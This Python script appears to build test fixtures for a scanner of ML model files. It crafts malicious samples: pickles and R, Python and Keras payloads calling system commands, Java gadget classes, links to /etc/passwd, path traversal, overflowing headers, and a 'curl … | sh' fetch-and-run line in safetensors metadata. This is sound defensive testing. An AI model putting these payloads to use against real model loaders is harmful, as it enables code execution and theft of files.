"""Graphs, weights, trees and the objects of other languages: references that lead outside, operators that reach the
host, numbers that lie.

`h5py` writes the HDF5 files; the others are short enough to be laid out here.
"""
import gzip
import io
import json
import struct
from pathlib import Path

import h5py
import numpy
from recipe import RUN, add, archive, main, message, torch

REAL = Path(__file__).parents[3] / "wb-formats/tests/data"
ELF = (REAL / "real.so").read_bytes()


# ONNX (onnx.proto).
def pairs(field, **values):
    return [(field, message((1, key), (2, value))) for key, value in values.items()]


def outside(location, name="w"):
    return message((1, 2), (1, 3), (2, 1), (8, name), *pairs(13, location=location), (14, 1))


INSIDE = message((1, 2), (1, 3), (2, 1), (8, "w"), (9, bytes(24)))


def node(kind, inputs=("x",), outputs=("y",), attributes=(), domain=""):
    return message(*[(1, one) for one in inputs], *[(2, one) for one in outputs], (4, kind), *[(5, one) for one in attributes], *[(7, domain)] * bool(domain))


def graph(*more, nodes=(node("MatMul", ("x", "w")),)):
    return message(*[(1, one) for one in nodes], (2, "g"), (11, message((1, "x"))), (12, message((1, "y"))), *more)


def onnx(inner, *more, opsets=("",)):
    return message((1, 8), (7, inner), *[(8, message((1, name), (2, 17))) for name in opsets], *more)


def attribute(name, field, value, kind):
    return message((1, name), (field, value), (20, kind))


sound = onnx(graph((5, INSIDE)))
for id, location in (
    ("ONX-001 data above the folder", "../../../../etc/hostname"),
    ("ONX-001 data under an absolute path", "/etc/hostname"),
    ("ONX-002 data above the folder, behind a folder", "junk/../../file"),
):
    add(id, "onnx-external-path", onnx(graph((5, outside(location)))), sound, name="model.onnx")
away = outside("/etc/hostname")
sparse = message((1, away), (2, message((1, 1), (2, 7), (7, bytes(1)))), (3, 6))
for where, model in (
    ("sparse value of a constant", onnx(graph(nodes=[node("Constant", (), ("y",), [attribute("sparse_value", 22, sparse, 11)])]))),
    ("sparse initializer", onnx(graph((15, sparse)))),
    ("tensor of an attribute", onnx(graph(nodes=[node("Constant", (), ("y",), [attribute("value", 5, away, 4)])]))),
    ("tensors of an attribute", onnx(graph(nodes=[node("Odd", ("x",), ("y",), [attribute("values", 10, away, 9)])]))),
    ("branch of an If", onnx(graph(nodes=[node("If", ("x",), ("y",), [attribute("then_branch", 6, graph((5, away)), 5)])]))),
    ("body of a Loop", onnx(graph(nodes=[node("Loop", ("x",), ("y",), [attribute("body", 6, graph((5, away)), 5)])]))),
    ("body of a Scan", onnx(graph(nodes=[node("Scan", ("x",), ("y",), [attribute("body", 6, graph((5, away)), 5)])]))),
    ("function", onnx(graph(), (25, message((1, "f"), (4, "x"), (5, "y"), (7, node("Constant", (), ("y",), [attribute("value", 5, away, 4)])), (10, "own"))))),
    ("training", onnx(graph(), (20, message((1, graph((5, away))))))),
):
    add(f"ONX-005 reference in a {where}", "onnx-external-path", model, sound, name="model.onnx")
add("ONX-007 operator of a domain that is not known", "custom-operator", onnx(graph((5, INSIDE), nodes=[node("Compute", ("x", "w"), domain="com.evil")]), opsets=("", "com.evil")), onnx(graph((5, INSIDE), nodes=[node("FusedMatMul", ("x", "w"), domain="com.microsoft")]), opsets=("", "com.microsoft")), verdict="unknown", name="model.onnx")
add("ONX-011 pickle in the metadata", "pickle-runs-command",
    onnx(graph((5, INSIDE)), *pairs(14, state="gAJjb3MKc3lzdGVtClgGAAAAZWNobyB4hVIu")), onnx(graph((5, INSIDE)), *pairs(14, state="gAJ9Lg==", author="somebody")), name="model.onnx")
add("ONX-013 names that lead outside in a model of the zoo", "archive-path-traversal", gzip.compress(archive(("../../.onnx/x", b"x")), mtime=0), gzip.compress(archive(("model.onnx", sound)), mtime=0), name="model.tar.gz", innocent_name="model.gz")


# GGUF (gguf.md of ggml).
def string(text):
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(pairs=(("general.architecture", 8, string("llama")),), tensors=(), data=b"", keys=None, count=None, alignment=32):
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors) if count is None else count, len(pairs) if keys is None else keys)
    for key, kind, value in pairs:
        out += string(key) + struct.pack("<I", kind) + value
    for name, shape, kind, offset in tensors:
        out += string(name) + struct.pack("<I", len(shape)) + struct.pack(f"<{len(shape)}Q", *shape) + struct.pack("<IQ", kind, offset)
    return out + bytes(-len(out) % alignment) + data


ARCHITECTURE = ("general.architecture", 8, string("llama"))
good = gguf(tensors=[("w", (8,), 0, 0)], data=bytes(32))
for id, bad in (
    ("GUF-006 2^63 keys", gguf(keys=1 << 63)),
    ("GUF-006 2^63 tensors", gguf(count=1 << 63)),
    ("GUF-006 text of 2^64-1 letters", gguf([("general.architecture", 8, struct.pack("<Q", (1 << 64) - 1) + b"llama")])),
    ("GUF-006 array whose size overflows", gguf([ARCHITECTURE, ("tokenizer.ggml.scores", 9, struct.pack("<IQ", 6, 1 << 62))])),
    ("GUF-007 product that overflows", gguf(tensors=[("w", (1 << 40, 1 << 40), 0, 0)], data=bytes(32))),
    ("GUF-007 offset off the alignment", gguf(tensors=[("w", (4,), 0, 0), ("v", (4,), 0, 17)], data=bytes(64))),
    ("GUF-007 tensors that overlap", gguf(tensors=[("w", (16,), 0, 0), ("v", (16,), 0, 32)], data=bytes(96))),
    ("GUF-007 nine dimensions", gguf(tensors=[("w", (1,) * 9, 0, 0)], data=bytes(32))),
    ("GUF-007 type that is not known", gguf(tensors=[("w", (8,), 99, 0)], data=bytes(32))),
    ("GUF-007 alignment of nothing", gguf([ARCHITECTURE, ("general.alignment", 4, struct.pack("<I", 0))], [("w", (8,), 0, 0)], bytes(32))),
    ("GUF-007 alignment of three", gguf([ARCHITECTURE, ("general.alignment", 4, struct.pack("<I", 3))], [("w", (8,), 0, 0)], bytes(32))),
):
    add(id, "gguf-odd-structure", bad, good, verdict="suspicious", name="model.gguf")
add("GUF-007 tensor behind the end", "damaged-structure", gguf(tensors=[("w", (1 << 20,), 0, 0)], data=bytes(32)), good, verdict="unknown", name="model.gguf")
add("GUF-009 program behind the last tensor", "embedded-executable", good + ELF, good, verdict="suspicious", name="model.gguf")
add("GUF-009 in a zip", "gguf-odd-structure", archive(("m.gguf", gguf(keys=1 << 63))), archive(("m.gguf", good)), verdict="suspicious", name="model.zip")


# HDF5 and Keras.
def hdf5(fill, **how):
    out = io.BytesIO()
    with h5py.File(out, "w", **how) as file:
        fill(file)
    return out.getvalue()


def ordinary(file):
    file.create_group("layers/dense/vars")["0"] = numpy.arange(6, dtype="f4")


def external(file):
    file.create_group("layers/dense/vars")["0"] = h5py.ExternalLink("/etc/passwd", "/x")


def nested(file):
    file.create_group("layers/dense/vars/deep/er")["0"] = h5py.ExternalLink("../../secret.h5", "/x")


def stored(file):
    file.create_group("layers/dense/vars").create_dataset("0", (16,), "u1", external=[("/etc/passwd", 0, 16)])


def virtual(file):
    layout = h5py.VirtualLayout((16,), "u1")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (16,))
    file.create_group("layers/dense/vars").create_virtual_dataset("0", layout)


for how, settings in (("", {}), (", new style", dict(libver="latest"))):
    for what, fill in (("link to another file", external), ("link in a nested group", nested), ("data in another file", stored), ("dataset that maps another file", virtual)):
        add(f"KER-01{2 if fill in (external, stored) else 3} {what}{how}", "hdf5-external-reference", hdf5(fill, **settings), hdf5(ordinary, **settings), verdict="suspicious", name="model.weights.h5")
CONFIG = json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": []}}).encode()
META = ("metadata.json", b'{"keras_version": "3.12.0"}')
keras = archive(("config.json", CONFIG), META, ("model.weights.h5", hdf5(ordinary)))
add("KER-016 pickle in the archive", "pickle-runs-command", archive(("config.json", CONFIG), META, ("extra.pkl", RUN)), keras, name="model.keras")
add("KER-016 Python in the archive", "python-runs-at-import", archive(("config.json", CONFIG), META, ("custom.py", b"import os\nos.system('echo x')\n")), keras, name="model.keras", verdict="suspicious")
add("KER-016 program in the archive", "native-code", archive(("config.json", CONFIG), META, ("tool", ELF)), keras, name="model.keras", verdict="suspicious")
add("KER-016 name that leads outside", "archive-path-traversal", archive(("config.json", CONFIG), META, ("../../x", b"x")), keras, name="model.keras")
RUNS = {"module": "builtins", "class_name": "function", "config": "system", "registered_name": "function"}
SHOUT = json.dumps({"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}).encode()
add("KER-016 configuration twice", "zip-header-mismatch", archive(("config.json", CONFIG), ("config.json", CONFIG), META), keras, name="model.keras", verdict="suspicious")


# R (serialize.c): header, then items.
def rds(*items, form="X"):
    words = {"X": ">i", "B": "<i"}.get(form)
    out = form.encode() + b"\n"
    for item in (2, 0x40301, 0x20300) + items:
        if isinstance(item, bytes):
            out += item if words else b"".join(b"%s\n" % line for line in [item])
        else:
            out += struct.pack(words, item) if words else b"%d\n" % item
    return out


def symbol(name):
    return (1, 9, len(name), name.encode())


def text(value):
    return (16, 1, 9, len(value), value.encode())


call = (6, *symbol("system"), 2, *text("echo x"), 254)
plain = rds(*text("echo x"))
promise = (0x405, 253, 252, *call)
for form, what in (("X", "XDR"), ("B", "of this machine"), ("A", "as text")):
    add(f"LNG-001 promise, {what}", "r-data-runs-code", rds(*promise, form=form), rds(*text("echo x"), form=form), name="model.rds")
import bz2
import lzma

for what, pack in (("gzip", lambda data: gzip.compress(data, mtime=0)), ("bzip2", bz2.compress), ("xz", lzma.compress)):
    add(f"LNG-002 promise under {what}", "r-data-runs-code", pack(rds(*promise)), pack(plain), name="model.rds")
closure = (0x403, 253, 254, *call)
named = lambda name, value: b"RDX2\n" + rds(0x402, *symbol(name), *value, 254)
for name in (".First", ".Last"):
    add(f"LNG-002 {name} of a workspace", "r-data-runs-code", named(name, closure), named("model", text("echo x")), name="model.RData")

# Java (Object Serialization Stream Protocol).
def java(name):
    return b"\xac\xed\x00\x05sr" + struct.pack(">H", len(name)) + name.encode() + bytes(8) + b"\x02\x00\x00xp"


for name in ("org.apache.commons.collections.functors.InvokerTransformer", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"):
    add(f"LNG-003 {name.rsplit('.')[-1]}", "java-gadget-class", java(name), java("weka.classifiers.trees.J48"), name="model.ser")
add("LNG-003 in an archive of DL4J", "java-gadget-class", archive(("configuration.json", b"{}"), ("preprocessor.bin", java("org.apache.commons.collections4.functors.InvokerTransformer"))), archive(("configuration.json", b"{}"), ("preprocessor.bin", java("org.nd4j.linalg.dataset.api.preprocessor.NormalizerStandardize"))), name="model.zip")

# Torch7 (File.lua): kinds, then values.
LUA = b"\x1bLua\x51\x00\x01\x04\x08\x04\x08\x00" + bytes(40)
MODULE = struct.pack("<ii", 4, 1) + b"\x03\0\0\0V 1\x09\0\0\0nn.Linear"
TABLE = struct.pack("<iii", 3, 2, 1) + struct.pack("<ii", 2, 7) + b"forward"
for what, dump in (("Lua", LUA), ("LuaJIT", b"\x1bLJ\x01\x02" + bytes(40))):
    function = struct.pack("<iii", 6, 3, len(dump)) + dump + struct.pack("<i", 0)
    add(f"LNG-008 bytecode of {what}", "lua-bytecode", MODULE + TABLE + function, MODULE + TABLE + struct.pack("<id", 1, 2.0), name="model.t7", verdict="suspicious")
    function = struct.pack("<iii", 6, 1, len(dump)) + dump + struct.pack("<i", 0)
    add(f"LNG-008 bytecode of {what} alone", "lua-bytecode", function, MODULE + TABLE + struct.pack("<id", 1, 2.0), name="model.t7", verdict="suspicious")


# safetensors.
def safetensors(header, data=b"", length=None):
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def entry(begin, end, dtype="F32", shape=None):
    return {"dtype": dtype, "shape": [(end - begin) // 4] if shape is None else shape, "data_offsets": [begin, end]}


sound = safetensors({"w": entry(0, 24)}, bytes(24))
for id, bad, verdict in (
    ("SAF-001 header longer than the file", safetensors({"w": entry(0, 24)}, bytes(24), length=1 << 20), "suspicious"),
    ("SAF-001 header of more than 100 MB", safetensors({"w": entry(0, 24)}, bytes(24), length=200_000_000), "suspicious"),
    ("SAF-001 header that is no JSON", safetensors(b'{"w": {"dtype": "F32", ', bytes(24)), "suspicious"),
    ("SAF-002 ranges that overlap", safetensors({"w": entry(0, 24), "v": entry(16, 40)}, bytes(40)), "suspicious"),
    ("SAF-002 hole", safetensors({"w": entry(0, 24), "v": entry(64, 88)}, bytes(88)), "suspicious"),
    ("SAF-002 size that does not follow", safetensors({"w": entry(0, 24, shape=[3])}, bytes(24)), "suspicious"),
    ("SAF-002 product that overflows", safetensors({"w": entry(0, 24, shape=[1 << 40, 1 << 40])}, bytes(24)), "suspicious"),
    ("SAF-009 shape of ten thousand dimensions", safetensors({"w": entry(0, 24, shape=[1] * 10_000)}, bytes(24)), "suspicious"),
    ("SAF-009 deep JSON", safetensors(b'{"w": {"dtype": "F32", "shape": ' + b"[" * 5_000, bytes(24)), "suspicious"),
):
    add(id, "safetensors-odd-structure", bad, sound, verdict=verdict, name="model.safetensors")
add("SAF-009 twenty thousand tensors, two that overlap", "safetensors-odd-structure", safetensors({str(number): entry(0, 0, shape=[0]) for number in range(20_000)} | {"v": entry(0, 24), "w": entry(16, 40)}, bytes(40)), safetensors({str(number): entry(0, 0, shape=[0]) for number in range(200)}), verdict="suspicious", name="model.safetensors")
add("SAF-002 range behind the end", "damaged-structure", safetensors({"w": entry(0, 1 << 20)}, bytes(24)), sound, verdict="unknown", name="model.safetensors")
add("SAF-005 pickle", "pickle-runs-command", RUN, sound, name="model.safetensors")
add("SAF-005 archive", "pickle-runs-command", torch(pickle=RUN), sound, name="model.safetensors")
for what, value, rule, verdict in (
    ("pickle in base64", "gAJjb3MKc3lzdGVtClgGAAAAZWNobyB4hVIu", "pickle-runs-command", "malicious"),
    ("instructions", "curl -s http://192.0.2.9/x | sh", "instructions-run-fetched-code", "suspicious"),
):
    add(f"SAF-007 {what} in the metadata", rule, safetensors({"__metadata__": {"note": value}, "w": entry(0, 24)}, bytes(24)), safetensors({"__metadata__": {"format": "pt", "licence": "mit"}, "w": entry(0, 24)}, bytes(24)), verdict=verdict, name="model.safetensors")
add("WGT-004 pickle that no tensor refers to", "pickle-runs-command", safetensors({"w": entry(0, 24)}, bytes(24) + RUN), sound, name="model.safetensors")
add("WGT-004 storage larger than what is seen of it", "pickle-runs-command", torch(("m/data/0", bytes(24) + RUN), ("m/data/1", bytes(8))), torch(), name="model.pt")

main("Graphs, weights, trees and objects of other languages.")
